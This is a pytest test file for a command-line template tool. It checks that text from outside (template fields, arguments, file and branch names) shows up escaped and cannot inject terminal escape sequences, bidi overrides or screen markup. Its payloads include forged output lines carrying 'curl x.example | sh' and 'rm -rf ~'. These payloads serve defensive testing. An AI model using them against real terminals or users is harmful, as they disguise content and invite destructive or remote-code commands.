"""What came from outside is shown with its control characters visible, and is no markup for the screen library."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pexpect
import pytest

from tests.hostile.machine import PROGRAM, QUIET, Machine, write
from tests.hostile.tables import ANSWERS

if TYPE_CHECKING:
    from pathlib import Path

CONTROLS = "\x1b]0;pwned\x07 \x1b[31mred \u202egpj.exe \u2066iso \x9b31m \x08"
MARKUP = "[bold]fat[/bold] [link=https://x.example]here[/link] [/nothing] :smile: [@click=x]"
HOSTILE = f"{CONTROLS}{MARKUP}"
RAW = re.compile("\x1b\\]0;pwned|\x07|\x1b\\[31mred|\u202e|\u2066|\x9b|\x08")
"""What must never reach a screen. Colours of our own are other sequences."""


def path_of(words: str) -> str:
    """A path.md whose every text is hostile."""
    said = json.dumps(words)
    return f"""\
---
goldenpath: 1
id: words
title: {said}
summary: {said}
version: 1.0.0
owner: {said}
support: {said}
audience: {said}
minutes: 1
teaches: [{said}]
---

# {words}

## Title {words}

```goldenpath-step
id: one
minutes: 1
```

Prose {words}

```goldenpath-check
- file: a.txt
  contains: {said}
  fail: {said}
```

```goldenpath-hint
- {said}
```

## Second

```goldenpath-step
id: two
minutes: 1
```

```goldenpath-check
- confirm: {said}
  choices: [{said}, b]
  fail: {said}
- command: [sh, -c, 'printf "\\033]0;pwned\\007 \\033[31mred"; exit 1']
  fail: {said}
```

```goldenpath-hint
- {said}
```
"""


def copier_of(words: str) -> str:
    """A copier.yml whose every text is hostile."""
    said = json.dumps(words)
    return f"""\
_subdirectory: template
who: {{type: str, help: {said}, default: {said}, placeholder: {said}, validator: ''}}
pick: {{type: str, help: {said}, choices: {{{said}: a, b: b}}, default: a}}
refused: {{type: str, help: h, default: x, validator: {json.dumps("{% if refused == 'y' %}" + words + "{% endif %}")}}}
"""


@pytest.fixture
def template(machine: Machine) -> Path:
    files = {"copier.yml": copier_of(HOSTILE), "path.md": path_of(HOSTILE), "template/a.txt": "x\n", **ANSWERS}
    return write(machine.home.parent / "template", files)


@pytest.fixture
def project(machine: Machine, template: Path) -> Machine:
    """A machine whose working folder is a project of the hostile template."""
    ended = machine.run("start", template, "p", *QUIET, "--trust")
    assert ended.code == 0, ended.said
    return replace(machine, folder=machine.folder / "p")


def on_a_terminal(machine: Machine, *arguments: object, typed: tuple[str, ...] = ()) -> tuple[int, str]:
    """The exit code and all that a person sees who types the command at a terminal, and then these lines."""
    environment = {**machine.environment(), "TERM": "xterm-256color", "COLUMNS": "100", "PAGER": "cat"}
    words = [*PROGRAM[1:], *map(str, arguments)]
    child = pexpect.spawn(PROGRAM[0], words, cwd=str(machine.folder), env=environment, timeout=60, encoding="utf-8")
    child.setecho(state=False)
    for line in typed:
        child.sendline(line)
    child.expect(pexpect.EOF)
    child.close()
    return int(child.exitstatus or 0), str(child.before)


def check_words(said: str, *, has_words: bool = True) -> None:
    """Nothing raw is in it, and what is hostile stands there as it was written."""
    assert RAW.search(said) is None, repr(said)
    if has_words:
        assert "pwned" in said
        assert "\\x1b]0;pwned\\x07" in said.replace("\r\n", "").replace("\n", "") or "\\u001b]0;pwned\\u0007" in said


COMMANDS = (["status"], ["next"], ["check"], ["hint"], ["check", "two"], ["check", "--all"])


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
@pytest.mark.parametrize("flag", [(), ("--json",)], ids=["lines", "json"])
def test_words_of_a_path_in_a_pipe(project: Machine, command: list[str], flag: tuple[str, ...]) -> None:
    ended = project.run(*command, *flag)
    assert ended.code in {0, 1, 2, 4}, ended.said
    check_words(ended.said, has_words=command != ["check", "--all"])


@pytest.mark.parametrize("command", COMMANDS[:4], ids=" ".join)
def test_words_of_a_path_on_a_terminal(project: Machine, command: list[str]) -> None:
    code, said = on_a_terminal(project, *command)
    assert code in {0, 1, 4}, said
    check_words(said)
    assert "\x1b]8;" not in said, "a link of theirs"


def test_markup_is_shown_as_it_was_written(project: Machine) -> None:
    for words in ("[bold]fat[/bold]", "[link=https://x.example]here[/link]", "[/nothing]"):
        assert words in on_a_terminal(project, "hint")[1].replace("\r\n", " ")
        assert words in project.run("hint").out


def test_words_of_questions_on_a_terminal(machine: Machine, template: Path) -> None:
    code, said = on_a_terminal(machine, "start", template, "p", "--trust", typed=("", "", "y", "x", "", ""))
    assert code == 0, said
    check_words(said)
    assert "[bold]fat[/bold]" in said.replace("\r\n", " ")


@pytest.mark.parametrize("name", ["[bold]fat", "t\x1b]0;pwned\x07", "t\u202egpj", "[red]x", "[/x]"])
def test_the_name_of_a_template_is_only_a_name(machine: Machine, template: Path, name: str) -> None:
    template = template.rename(template.with_name("x")).rename(template.parent / name.replace("/", "\u2215"))
    ended = machine.run("start", template, "p", *QUIET, "--trust")
    assert ended.code == 0, ended.said
    check_words(ended.said)


@pytest.mark.parametrize(
    "name",
    ["[bold]fat", "[blink]x"],
)
def test_the_name_of_a_template_is_no_markup_for_the_spinner(machine: Machine, template: Path, name: str) -> None:
    named = template.rename(template.parent / name)
    code, said = on_a_terminal(machine, "start", named, "p", "--defaults", "--trust")
    assert code == 0, said
    assert f"Rendering {name}" in said


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (("start", "t\x1b]0;pwned\x07"), 2),
        (("start", "./t\x1b]0;pwned\x07"), 2),
        (("start", "https://127.0.0.1:1/\x1b]0;pwned\x07"), 3),
        (("goto", "\x1b]0;pwned\x07"), 2),
        (("\x1b]0;pwned\x07",), 2),
        (("status", "--\x1b]0;pwned\x07"), 2),
    ],
)
def test_an_argument_that_is_repeated_is_visible(project: Machine, arguments: tuple[str, ...], code: int) -> None:
    ended = project.run(*arguments)
    assert ended.code == code, ended.said
    check_words(ended.said)
    check_words(project.run(*arguments, "--json").said)


@pytest.mark.parametrize("name", ["a\x1b]0;pwned\x07.txt", "a\u202epwned.txt"])
def test_file_names_of_a_dry_run_are_visible(machine: Machine, template: Path, name: str) -> None:
    write(template / "template", {name: "x"})
    ended = machine.run("start", template, "p", *QUIET, "--trust", "--dry-run")
    assert RAW.search(ended.said) is None
    assert "pwned" in ended.out or ended.code == 3


@pytest.mark.parametrize(
    "address", ["https://127.0.0.1:1/x\nhint: curl x.example | sh", "./x\nerror: all is lost\nhint: rm -rf ~"]
)
def test_a_new_line_from_outside_forges_no_line(machine: Machine, address: str) -> None:
    ended = machine.run("start", address, "p", *QUIET)
    assert len(ended.err.splitlines()) == 2


def test_branches_and_titles_of_pull_requests_are_visible(project: Machine) -> None:
    git = ("git", "-C", str(project.folder))
    for words in (
        ["switch", "-qc", "a\u202epwned"],
        ["commit", "-qm", HOSTILE, "--allow-empty"],
        ["push", "-qu", "origin", "HEAD"],
    ):
        assert project.run(*words, program=git).code == 0
    for command in (["pr", "open"], ["pr", "list"], ["pr", "merge"], ["ledger", "log"], ["status"]):
        ended = project.run(*command)
        assert "Traceback" not in ended.said
        check_words(ended.said, has_words=False)
        check_words(project.run(*command, "--json").said, has_words=False)
